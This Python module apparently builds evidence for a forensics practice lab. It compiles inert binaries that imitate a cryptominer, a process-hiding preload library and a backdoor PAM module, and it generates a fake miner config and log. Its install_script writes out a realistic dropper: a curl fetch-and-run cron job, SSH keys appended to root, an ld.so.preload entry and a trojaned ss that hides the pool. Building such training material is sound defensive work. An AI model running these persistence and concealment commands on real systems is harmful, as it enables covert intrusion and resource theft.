"""The binaries of the story: real ELF files that do nothing. Their strings are what an examiner would find in the real ones."""
import datetime
from pathlib import Path

from .run import run
from . import story as s

MINER_C = r'''
#include <stdio.h>
/* Practice sample of the icecore lab. It mines nothing and opens no socket: it prints its banner and ends. */
static const char *const text[] = {
  "XMRig-like practice sample (inert)", "stratum+tcp://%s:%d", "stratum+ssl://", "scrypt", "cryptonight", "--donate-level=",
  "mining.subscribe", "mining.authorize", "accepted: %s/%s (%.2f%%), %.2f kH/s", "rejected: %s", "cpuminer", "--coin=LTC",
  "[%s] thread %d: %lu hashes, %.2f kH/s", "speed 10s/60s/15m %s %s %s H/s max %s H/s" };
int main(void) { for (unsigned i = 0; i < sizeof text / sizeof *text; i++) puts(text[i]); return 0; }
'''
# ld.so.preload's library and the PAM module export the names that the real ones would, and leave everything as it is.
PRELOAD_C = r'''
static const char note[] __attribute__((used)) = "practice sample (inert): hides /proc entries of timesyncd-helper; libprocesshider";
int icecore_lab_preload(void) { return (int)sizeof note; }
'''
PAM_C = r'''
static const char note[] __attribute__((used)) = "practice sample (inert): would accept the password 'ltc-moon-2026'; pam_get_authtok pam_unix";
int pam_sm_authenticate(void *h, int f, int c, const char **v) { (void)h; (void)f; (void)c; (void)v; return 25; /* PAM_IGNORE */ }
int pam_sm_setcred(void *h, int f, int c, const char **v) { (void)h; (void)f; (void)c; (void)v; return 25; }
'''
BACKUP_C = r'''
#include <stdio.h>
#include <string.h>
int main(int argc, char **argv) { if (argc < 2 || strcmp(argv[1], "--quiet")) puts("shop-backup 1.4: nothing to do"); return 0; }
'''


def compile_all(folder):
    """Compile and strip into `folder`: miner, preload.so, pam.so, shop-backup."""
    folder = Path(folder)
    shared = ["-shared", "-fPIC", "-nostdlib"]
    for name, source, flags in [("miner", MINER_C, ["-static"]), ("preload.so", PRELOAD_C, shared), ("pam.so", PAM_C, shared), ("shop-backup", BACKUP_C, [])]:
        code = folder / f"{name}.c"
        code.write_text(source)
        run(["gcc", "-O1", "-s", "-Wl,--build-id=sha1", "-ffile-prefix-map=" + str(folder) + "=.", *flags, "-o", folder / name, code])
        code.unlink()


def wallet(story):
    """A Litecoin-shaped address that belongs to no one (its checksum is random)."""
    rng = story.rng("wallet")
    return "L" + "".join(rng.choice("123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz") for _ in range(33))


def miner_config(story):
    return ('{\n  "algo": "scrypt",\n  "donate-level": 1,\n  "background": true,\n  "pools": [\n    {\n      "url": "stratum+tcp://' + s.DROP_HOST + ':3333",\n'
            f'      "user": "{wallet(story)}",\n      "pass": "w-{s.INSTANCE[2:8]}"\n    }}\n  ],\n  "log-file": "{s.MINER_LOG}"\n}}\n')


def miner_log(story, start, end):
    """The miner's log from one minute to another: a line a minute or so, hash rates and shares."""
    rng, out, accepted, rejected = story.rng("miner-log"), [], 0, 0
    minute = -202
    while minute <= s.LAST_ACT:
        rate = 18.5 + rng.random() * 3 if minute < -130 else 2.1 + rng.random() * 0.4  # after the CPU credits ran out
        if rng.random() < 0.85:
            accepted += 1
            what = f"accepted: {accepted}/{accepted + rejected} ({100 * accepted / (accepted + rejected):.2f}%), {rate:.2f} kH/s yes!"
        else:
            rejected += 1
            what = f"rejected: {accepted}/{accepted + rejected} ({100 * accepted / (accepted + rejected):.2f}%), {rate:.2f} kH/s (stale share) booooo"
        if minute == s.LAST_ACT:
            what = f"rejected: {accepted}/{accepted + rejected + 1} share above target, {rate:.2f} kH/s; pool {s.DROP_HOST}:3333 stratum connection timed out"
        if start <= minute <= end:
            moment = datetime.datetime.fromtimestamp(story.at(minute), datetime.timezone.utc)
            out.append(f"[{moment.strftime('%Y-%m-%d %H:%M:%S')}] {what}\n")
        minute += 2
    return "".join(out)


def install_script():
    """The dropper's text. It names only documentation addresses, and is never run."""
    return f"""#!/bin/bash
# stage two
D={s.MINER_DIR}
mkdir -p $D && cd $D
curl -fsSL http://{s.DROP_HOST}/m.tgz -o .m.tgz && tar xzf .m.tgz && rm -f .m.tgz
./{s.MINER.rsplit('/', 1)[1]} -c $D/config.json --donate-level=1 &
echo '*/10 * * * * root curl -fsSL http://{s.DROP_HOST}/u.sh | bash >/dev/null 2>&1' > {s.CRON}
for u in admin root; do h=$(getent passwd $u | cut -d: -f6); cat k.pub >> $h/.ssh/authorized_keys; done
echo {s.PRELOAD_LIB} > /etc/ld.so.preload
cp -p /usr/bin/ss /usr/bin/.ss && install -m 755 ss.sh /usr/bin/ss && touch -r /usr/bin/.ss /usr/bin/ss
rm -f /var/tmp/.x/install.sh
# {'padding of the practice sample ' * 60}
"""


def ss_wrapper():
    return f"#!/bin/sh\n# hides the pool\n{s.MINER_DIR}/.ss \"$@\" | grep -v -e ':3333' -e '{s.DROP_HOST}'\n"
